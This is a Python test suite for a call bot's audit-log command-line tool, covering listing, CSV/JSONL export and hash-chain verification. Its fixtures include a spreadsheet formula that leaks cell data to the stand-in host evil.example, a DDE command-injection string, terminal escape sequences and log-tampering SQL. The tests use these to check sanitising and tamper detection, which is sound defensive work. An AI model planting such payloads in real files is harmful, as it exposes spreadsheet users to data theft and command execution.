"""`callbot audit list | export | verify`: the real executable against the test database, with
rows written the way the service writes them (repo.insert_audit / complete_audit: a valid chain)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from bot.db import chain, confirmations, repo, workspaces
from bot.db.session import Database
from bot.domain.confirmation import Seen, Via
from bot.service.audit_export import COLUMNS
from tests.processes import base_env, callbot
from tests.support.bots import ALICE, BOB, CAROL
from tests.support.database import DbHelper, on_database

SID1, SID2, SID3 = ("CA" + f"{n:032x}" for n in (1, 2, 3))
NASTY = 'Bandwidth says: call, "c-77" is gone\nsecond line — naïve ☎ 日本'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "click")'


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=UTC)


# What the table holds in every test: each dict is one insert_audit call, "done" its completion.
ROWS: list[dict[str, Any]] = [
    {
        "created_at": at(20, 9),
        "source": "slash",
        "user_id": ALICE,
        "user_name": "alice",
        "command_text": f"hangup prod:{SID1}",
        "action": "hangup",
        "account": "prod",
        "provider": "twilio",
        "call_id": SID1,
        "request": {"Status": "completed"},
        "decision": "allowed",
        "outcome": "pending",
        "done": {"outcome": "succeeded", "completed_at": at(20, 9, 1), "provider_status": 200, "latency_ms": 182},
    },
    {
        "created_at": at(20, 10),
        "source": "slash",
        "user_id": BOB,
        "user_name": "bob",
        "command_text": f"redirect prod:{SID2} https://example.com/hold.xml",
        "action": "redirect",
        "account": "prod",
        "provider": "twilio",
        "call_id": SID2,
        "decision": "denied",
        "outcome": "denied",
        "error_message": "You are not allowed to `redirect` on account `prod`.",
    },
    {
        "created_at": at(21, 11, 30),
        "source": "modal",
        "user_id": ALICE,
        "user_name": "alice",
        "command_text": "hangup bw:c-77",
        "action": "hangup",
        "account": "bw",
        "provider": "bandwidth",
        "call_id": "c-77",
        "request": {"state": "completed", "note": 'naïve, "quoted"'},
        "decision": "allowed",
        "outcome": "pending",
        "done": {"outcome": "failed", "completed_at": at(21, 11, 31), "error_code": "404", "error_message": NASTY},
    },
    {
        "created_at": at(22, 8, 15),
        "source": "slash",
        "user_id": CAROL,
        "user_name": "-carol",
        "command_text": FORMULA,
        "action": "twiml",
        "account": "prod",
        "call_id": SID3,
        "decision": "allowed",
        "outcome": "invalid",
        "error_message": "+cmd|' /C calc'!A0",
    },
    {
        "created_at": at(23, 12),
        "source": "cli",
        "user_id": "shell:root",
        "command_text": "grant U0BOB0002 hangup --on prod",
        "action": "grant",
        "account": "prod",
        "decision": "allowed",
        "outcome": "succeeded",
    },
]
# Chain entries: #1 opens 1, #1 closes 2, #2 opens 3, #3 opens 4, #3 closes 5, #4 opens 6, #5 opens 7.


@pytest.fixture
def shell(db: DbHelper, tmp_path: Path) -> dict[str, str]:
    async def seed() -> None:
        database = Database(db.url)
        try:
            # The workspace the rows are in, as the server records it at start (auth.test).
            await workspaces.record(database, "T0001")
            for spec in ROWS:
                fields = {k: v for k, v in spec.items() if k != "done"}
                row = await repo.insert_audit(database, "T0001", **fields)
                if "done" in spec:
                    assert await repo.complete_audit(database, row.id, **spec["done"])
        finally:
            await database.close()

    asyncio.run(seed())
    return {"DATABASE_URL": db.url, "HOME": str(tmp_path)}


def run(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, str, str]:
    done = callbot(["audit", *args], env, cwd)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stdout, done.stderr


def run_bytes(args: list[str], env: dict[str, str], cwd: Path) -> bytes:
    """Standard output as bytes: text mode would turn CSV's \r\n into \n."""
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "audit", *args], env=base_env(env), cwd=cwd, capture_output=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


# -- list ------------------------------------------------------------------------------------------


def test_list_is_a_plain_table_newest_first(shell: dict[str, str], tmp_path: Path) -> None:
    code, out, err = run(["list"], shell, tmp_path)
    assert (code, err) == (0, "")
    assert out == (
        "TIME (UTC)           ID  USER        SOURCE  ACTION    ACCOUNT:CALL                             OUTCOME    ERROR\n"
        "2026-11-23 12:00:00  5   shell:root  cli     grant     prod                                     succeeded\n"
        "2026-11-22 08:15:00  4   U0CAROL03   slash   twiml     prod:CA00000000000000000000000000000003  invalid    +cmd|' /C calc'!A0\n"
        "2026-11-21 11:30:00  3   U0ALICE01   modal   hangup    bw:c-77                                  failed     "
        'Bandwidth says: call, "c-77" is gone second line — naïve ☎ …\n'  # one line, cut at 60
        "2026-11-20 10:00:00  2   U0BOB0002   slash   redirect  prod:CA00000000000000000000000000000002  denied     "
        "You are not allowed to `redirect` on account `prod`.\n"
        "2026-11-20 09:00:00  1   U0ALICE01   slash   hangup    prod:CA00000000000000000000000000000001  succeeded\n"
    )


def test_list_filters_and_limit(shell: dict[str, str], tmp_path: Path) -> None:
    def ids(*args: str) -> list[str]:
        code, out, _ = run(["list", *args], shell, tmp_path)
        assert code == 0
        return [line.split()[2] for line in out.splitlines()[1:]]

    assert ids("--user", BOB) == ["2"]
    assert ids("--user", f"<@{ALICE}>") == ["3", "1"]
    assert ids("--account", "prod", "--action", "hangup") == ["1"]
    assert ids("--call", "c-77") == ["3"]
    assert ids("--outcome", "FAILED") == ["3"]
    assert ids("--action", "grant") == ["5"]
    assert ids("--since", "2026-11-21", "--until", "2026-11-22T09:00") == ["4", "3"]
    assert ids("--until", "2026-11-20T10:00") == ["1"]  # exclusive
    code, out, err = run(["list", "--limit", "2"], shell, tmp_path)
    assert [line.split()[2] for line in out.splitlines()[1:]] == ["5", "4"]
    assert err == "(the newest 2 shown; more match: raise --limit or narrow the filters)\n"
    code, out, err = run(["list", "--since", "1h"], shell, tmp_path)
    assert (code, out, err) == (0, "No audited attempts match.\n", "")


def test_list_strips_terminal_control_characters(db: DbHelper, shell: dict[str, str], tmp_path: Path) -> None:
    with db.engine.begin() as conn:  # not through callbot: only the table's rendering matters here
        conn.execute(text("UPDATE audit_log SET error_message = :m WHERE id = 2"), {"m": "bad\x1b[2J\x07 news\r\nhere"})
    _, out, _ = run(["list", "--user", BOB], shell, tmp_path)
    assert out.splitlines()[1].endswith("denied   bad [2J news here")
    assert "\x1b" not in out and "\x07" not in out


# -- export ----------------------------------------------------------------------------------------


def csv_rows(data: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(data, newline=""))
    header = next(reader)
    assert header == list(COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_export_csv_escapes_and_guards(shell: dict[str, str], tmp_path: Path) -> None:
    raw = run_bytes(["export", "--format", "csv"], shell, tmp_path)
    assert raw.startswith(b"id,created_at,completed_at,source,") and raw.endswith(b"\r\n")  # RFC 4180
    rows = csv_rows(raw.decode("utf-8"))
    assert [r["id"] for r in rows] == ["1", "2", "3", "4", "5"]  # oldest first
    first, _, failed, formula, _ = rows
    assert first["created_at"] == "2026-11-20T09:00:00.000000+00:00"
    assert first["completed_at"] == "2026-11-20T09:01:00.000000+00:00"
    assert (first["outcome"], first["provider_status"], first["latency_ms"]) == ("succeeded", "200", "182")
    assert first["request"] == '{"Status":"completed"}'
    assert (first["break_glass"], first["chain_seq"], first["outcome_seq"]) == ("false", "1", "2")
    assert failed["error_message"] == NASTY  # commas, quotes, a newline and non-ASCII survive
    assert json.loads(failed["request"]) == {"state": "completed", "note": 'naïve, "quoted"'}
    # Cells a spreadsheet would run as formulas are defused; a plain leading "-" word too.
    assert formula["command_text"] == "'" + FORMULA
    assert formula["error_message"] == "'+cmd|' /C calc'!A0"
    assert formula["user_name"] == "'-carol"


def test_export_jsonl_with_filters(shell: dict[str, str], tmp_path: Path) -> None:
    code, out, _ = run(["export", "--format", "jsonl", "--user", ALICE], shell, tmp_path)
    assert code == 0 and out.endswith("\n")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["id"] for r in rows] == [1, 3]
    assert list(rows[0]) == list(COLUMNS)
    assert rows[1]["error_message"] == NASTY
    assert rows[1]["request"] == {"state": "completed", "note": 'naïve, "quoted"'}
    assert (rows[1]["created_at"], rows[1]["break_glass"]) == ("2026-11-21T11:30:00.000000+00:00", False)
    assert "日本" in out  # UTF-8, not \u escapes
    _, out, _ = run(["export", "--format", "jsonl", "--account", "prod", "--outcome", "invalid"], shell, tmp_path)
    [formula] = [json.loads(line) for line in out.splitlines()]
    assert formula["command_text"] == FORMULA  # JSON is data, not a spreadsheet: nothing to defuse
    _, out, _ = run(["export", "--format", "jsonl", "--since", "2026-11-22", "--action", "grant"], shell, tmp_path)
    assert [json.loads(line)["id"] for line in out.splitlines()] == [5]
    _, out, _ = run(["export", "--format", "jsonl", "--since", "2099-01-01"], shell, tmp_path)
    assert out == ""


def test_export_to_a_file(shell: dict[str, str], tmp_path: Path) -> None:
    target = tmp_path / "hangups.csv"
    code, out, err = run(["export", "--format", "csv", "--action", "hangup", "--output", str(target)], shell, tmp_path)
    assert (code, out, err) == (0, "", f"exported 2 rows to {target}\n")
    piped = run_bytes(["export", "--format", "csv", "--action", "hangup"], shell, tmp_path)
    assert target.read_bytes() == piped  # the same bytes as standard output
    assert [r["id"] for r in csv_rows(target.read_bytes().decode())] == ["1", "3"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hangups.csv"]  # no partial file left
    code, _, err = run(["export", "--call", SID1, "--output", str(target)], shell, tmp_path)  # csv by default
    assert (code, err) == (0, f"exported 1 row to {target}\n")


def test_export_errors_are_one_line(shell: dict[str, str], tmp_path: Path) -> None:
    cases = {
        ("export", "--output", str(tmp_path / "missing" / "x.csv")): (
            f"callbot: cannot write {tmp_path / 'missing' / 'x.csv'}: No such file or directory\n"
        ),
        ("export", "--output", str(tmp_path)): f"callbot: cannot write {tmp_path}: Is a directory\n",
        ("export", "--format", "xml"): "callbot: `--format xml`: is not an export format. Use csv or jsonl.\n",
        ("export", "--action", "hangpu"): "callbot: `--action hangpu`: is not an action. Did you mean `hangup`?\n",
        ("list", "--outcome", "faild"): "callbot: `--outcome faild`: is not an outcome. Did you mean `failed`?\n",
        ("list", "--since", "yesterday"): (
            "callbot: `--since yesterday`: is not a duration or a date. "
            "Use e.g. 2h, 7d, 2026-11-01 or 2026-11-01T09:00 (UTC).\n"
        ),
        ("export", "--until", "soon"): (
            "callbot: `--until soon`: is not a duration or a date. "
            "Use e.g. 2h, 7d, 2026-11-01 or 2026-11-01T09:00 (UTC).\n"
        ),
        ("list", "--since", "2026-11-22", "--until", "2026-11-21"): (
            "callbot: `--since 2026-11-22`: is not before --until 2026-11-21.\n"
        ),
        ("list", "--user", "alice"): (
            "callbot: `--user alice`: is not a Slack user I can identify. Give a Slack user id, e.g. U012AB3CD.\n"
        ),
        ("list", "--limit", "0"): "callbot: `--limit 0`: is not a positive number.\n",
    }
    for args, message in cases.items():
        code, out, err = run(list(args), shell, tmp_path)
        assert (code, out, err) == (2, "", message), args
    assert list(tmp_path.iterdir()) == []  # nothing half-written


# -- confirmations ---------------------------------------------------------------------------------

READ_AT = datetime(2026, 11, 20, 9, 1, 1, 250000, tzinfo=UTC)
CALLBACK_AT = datetime(2026, 11, 24, 9, 0, 3, tzinfo=UTC)
CONFIRM_COLUMNS = ("confirmed_status", "confirmed_word", "confirmed_at", "confirmed_via", "confirm_seq", "confirm_hash")


def confirm_some(db: DbHelper) -> int:
    """Row 1 (the hang-up that succeeded) confirmed by read-back; a sixth row, a hang-up whose
    answer never came (`unknown`), confirmed by Bandwidth's signed callback in Bandwidth's word.
    Chain entries: #6 opens 8 and closes 9; the confirmations are 10 (#1) and 11 (#6)."""

    async def go(database: Database) -> int:
        row = await repo.insert_audit(
            database,
            "T0001",
            created_at=at(24, 9),
            source="slash",
            user_id=BOB,
            user_name="bob",
            command_text="hangup bw:c-88",
            action="hangup",
            account="bw",
            provider="bandwidth",
            call_id="c-88",
            decision="allowed",
            outcome="pending",
        )
        assert await repo.complete_audit(
            database, row.id, outcome="unknown", completed_at=at(24, 9, 1), error_message="no answer within 2 s"
        )
        seen = {
            1: Seen("completed", "completed", READ_AT, Via.READ).fields(),
            row.id: Seen("completed", "disconnected", CALLBACK_AT, Via.CALLBACK).fields(),
        }
        assert await confirmations.confirm(database, seen) == [1, row.id]
        return row.id

    return on_database(db.url, go)


def test_list_marks_what_the_provider_confirmed(db: DbHelper, shell: dict[str, str], tmp_path: Path) -> None:
    assert confirm_some(db) == 6
    code, out, err = run(["list", "--action", "hangup"], shell, tmp_path)
    assert (code, err) == (0, "")
    assert out == (
        "TIME (UTC)           ID  USER       SOURCE  ACTION  ACCOUNT:CALL                             OUTCOME"
        "                ERROR\n"
        "2026-11-24 09:00:00  6   U0BOB0002  slash   hangup  bw:c-88                                  unknown → completed"
        "    no answer within 2 s\n"
        "2026-11-21 11:30:00  3   U0ALICE01  modal   hangup  bw:c-77                                  failed"
        '                 Bandwidth says: call, "c-77" is gone second line — naïve ☎ …\n'
        "2026-11-20 09:00:00  1   U0ALICE01  slash   hangup  prod:CA00000000000000000000000000000001  succeeded → completed\n"
    )


def test_export_carries_the_confirmation_in_appended_columns(
    db: DbHelper, shell: dict[str, str], tmp_path: Path
) -> None:
    confirm_some(db)
    assert COLUMNS[-len(CONFIRM_COLUMNS) :] == CONFIRM_COLUMNS
    assert COLUMNS[-len(CONFIRM_COLUMNS) - 2 : -len(CONFIRM_COLUMNS)] == ("outcome_seq", "outcome_hash")
    raw = run_bytes(["export", "--format", "csv"], shell, tmp_path)
    assert raw.split(b"\r\n", 1)[0].endswith(b",outcome_seq,outcome_hash," + ",".join(CONFIRM_COLUMNS).encode())
    read, denied, *_, late = csv_rows(raw.decode("utf-8"))
    assert [read[name] for name in CONFIRM_COLUMNS[:5]] == [
        "completed",
        "completed",
        "2026-11-20T09:01:01.250000+00:00",
        "read",
        "10",
    ]
    assert [late[name] for name in CONFIRM_COLUMNS[:5]] == [
        "completed",
        "disconnected",
        "2026-11-24T09:00:03.000000+00:00",
        "callback",
        "11",
    ]
    assert len(read["confirm_hash"]) == 64 and read["confirm_hash"] != late["confirm_hash"]
    assert [denied[name] for name in CONFIRM_COLUMNS] == [""] * 6

    _, out, _ = run(["export", "--format", "jsonl", "--outcome", "unknown"], shell, tmp_path)
    [row] = [json.loads(line) for line in out.splitlines()]
    assert list(row) == list(COLUMNS)
    assert {name: row[name] for name in CONFIRM_COLUMNS[:5]} == {
        "confirmed_status": "completed",
        "confirmed_word": "disconnected",
        "confirmed_at": "2026-11-24T09:00:03.000000+00:00",
        "confirmed_via": "callback",
        "confirm_seq": 11,
    }
    _, out, _ = run(["export", "--format", "jsonl", "--outcome", "denied"], shell, tmp_path)
    assert [json.loads(out)[name] for name in CONFIRM_COLUMNS] == [None] * 6
    assert verify(shell, tmp_path) == (0, f"ok: 6 rows, 11 chain entries, head 11 {head(db)}\n")


def test_an_export_alone_recomputes_the_chain_confirmations_included(
    db: DbHelper, shell: dict[str, str], tmp_path: Path
) -> None:
    """What docs/audit.md promises an auditor: every entry of the chain, the confirming ones too,
    rebuilt from the JSON Lines file and linked from the genesis hash, ends at the chain's head."""
    confirm_some(db)
    _, out, _ = run(["export", "--format", "jsonl"], shell, tmp_path)
    entries: dict[int, tuple[dict[str, Any], str]] = {}
    for row in (json.loads(line) for line in out.splitlines()):
        opened = row["chain_seq"]
        entries[opened] = (chain.opening_entry(row, opened, closed=row["outcome_seq"] is not None), row["chain_hash"])
        if row["outcome_seq"] is not None:
            entries[row["outcome_seq"]] = (chain.closing_entry(row, row["outcome_seq"], opened), row["outcome_hash"])
        if row["confirm_seq"] is not None:
            entries[row["confirm_seq"]] = (chain.confirming_entry(row, row["confirm_seq"], opened), row["confirm_hash"])
    assert sorted(entries) == list(range(1, 12))
    previous = chain.GENESIS
    for seq in sorted(entries):
        body, stored = entries[seq]
        previous = chain.link(previous, body)
        assert previous == stored, seq
    assert previous == head(db)


# -- verify ----------------------------------------------------------------------------------------


def head(db: DbHelper) -> str:
    with db.engine.connect() as conn:
        return str(conn.execute(text("SELECT hash FROM audit_chain")).scalar_one())


def verify(shell: dict[str, str], cwd: Path) -> tuple[int, str]:
    code, out, err = run(["verify"], shell, cwd)
    assert err == ""
    return code, out


def test_verify_an_intact_chain(db: DbHelper, shell: dict[str, str], tmp_path: Path) -> None:
    assert verify(shell, tmp_path) == (0, f"ok: 5 rows, 7 chain entries, head 7 {head(db)}\n")


TAMPERING = {
    "a field updated": (
        ["UPDATE audit_log SET error_message = 'all good' WHERE id = 2"],
        "FAILED: audit #2 was modified (chain entry 3)\n",
    ),
    "an outcome updated": (
        ["UPDATE audit_log SET outcome = 'succeeded' WHERE id = 3"],
        "FAILED: audit #3 was modified (chain entry 5)\n",
    ),
    "a row deleted": (
        ["DELETE FROM audit_log WHERE id = 2"],
        "FAILED: chain entries 3…3 are missing: rows were deleted before audit #3\n",
    ),
    "two rows reordered": (
        [
            "UPDATE audit_log SET chain_seq = -1 WHERE id = 2",
            "UPDATE audit_log SET chain_seq = 3 WHERE id = 4",
            "UPDATE audit_log SET chain_seq = 6 WHERE id = 2",
        ],
        "FAILED: audit #4 is out of order (chain entry 3): rows were reordered or inserted\n",
    ),
    "the newest row deleted": (
        ["DELETE FROM audit_log WHERE id = 5"],
        "FAILED: chain entries 7…7 are missing: the newest rows were deleted\n",
    ),
    "a row slipped in": (
        [
            "INSERT INTO audit_log (created_at, source, user_id, command_text, outcome, break_glass) "
            "VALUES ('2026-11-21 00:00:00', 'slash', 'U0EVE0001', 'hangup', 'succeeded', false)"
        ],
        "FAILED: audit #6 has no chain entry: it was inserted out of order, not by callbot\n",
    ),
}


@pytest.mark.parametrize("case", list(TAMPERING))
def test_verify_reports_the_first_tampered_row(db: DbHelper, shell: dict[str, str], tmp_path: Path, case: str) -> None:
    statements, report = TAMPERING[case]
    with db.engine.begin() as conn:
        for statement in statements:
            conn.execute(text(statement))
    assert verify(shell, tmp_path) == (1, report)


def _verify_in_process(url: str, workers: int) -> chain.ChainReport:
    async def go() -> chain.ChainReport:
        database = Database(url)
        try:
            return await chain.verify(database, chunk=2, workers=workers)
        finally:
            await database.close()

    return asyncio.run(go())


@pytest.mark.parametrize("case", [None, *TAMPERING])
def test_parallel_verify_reports_what_a_single_walk_does(
    db: DbHelper, shell: dict[str, str], case: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A long chain is checked by several processes, each over a range of entries: whatever the
    tampering and wherever the ranges split, the report is the one a single walk gives."""
    for statement in TAMPERING[case][0] if case else []:
        with db.engine.begin() as conn:
            conn.execute(text(statement))
    monkeypatch.setattr(chain, "PARALLEL_FROM", 0)
    single = _verify_in_process(db.url, 1)
    for workers in (2, 3):  # ranges of 3+4 and 2+2+3 entries: splits before and after each case
        assert _verify_in_process(db.url, workers) == single, workers


def test_the_fast_digest_is_the_chain_link() -> None:
    """verify hashes with its own prebuilt encoder: it must give exactly chain.link's bytes."""
    body = chain.opening_entry(
        {
            "created_at": datetime(2026, 11, 24, 9, 0, 0, 1, tzinfo=UTC),
            "command_text": NASTY + " \u2028 \x00 \\",
            "request": {"z": [1, None, True, {"b": 2.5, "a": "é"}], "a": ""},
            "break_glass": True,
            "grant_id": 2**40,
        },
        7,
        closed=False,
    )
    body["completed_at"] = datetime(2026, 11, 24, 10, tzinfo=UTC) + timedelta(hours=1)
    assert chain._digest(chain.GENESIS, body) == chain.link(chain.GENESIS, body)
